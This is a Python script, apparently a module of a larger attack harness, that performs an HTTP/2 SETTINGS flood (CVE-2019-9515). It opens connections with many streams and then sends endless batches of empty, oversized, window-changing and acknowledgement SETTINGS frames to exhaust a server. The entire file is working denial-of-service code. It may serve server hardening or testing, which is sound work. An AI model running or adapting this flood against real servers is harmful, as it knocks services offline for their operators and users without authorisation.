#!/usr/bin/python3
"""SETTINGS flood (CVE-2019-9515): empty ones, full ones, ones that change every stream's window, and acknowledgements of nothing."""
import struct

from attacker import Peer, h2, headers, main

MARK = ("http2.flood_settings",)
ENDED = True


def window(n):
    return h2.frame(h2.SETTINGS, 0, 0, struct.pack(">HI", 4, n))


def attack(run):
    kinds = (h2.frame(h2.SETTINGS, 0, 0) * 200, h2.frame(h2.SETTINGS, 0, 0, struct.pack(">HI", 3, 100) * 2000) * 10,
             (window(1) + window(2**30)) * 100, h2.frame(h2.SETTINGS, h2.ACK, 0) * 1000)
    turn = 0
    while run.going():
        peer = Peer(run)
        # Streams whose windows each SETTINGS has to change.
        peer.send(b"".join(headers(s) for s in range(1, 400, 2)), 200)
        while peer.send(kinds[turn % len(kinds)], 200) and run.going():
            pass
        peer.wait(2)
        peer.close()
        turn += 1


if __name__ == "__main__":
    main(attack)
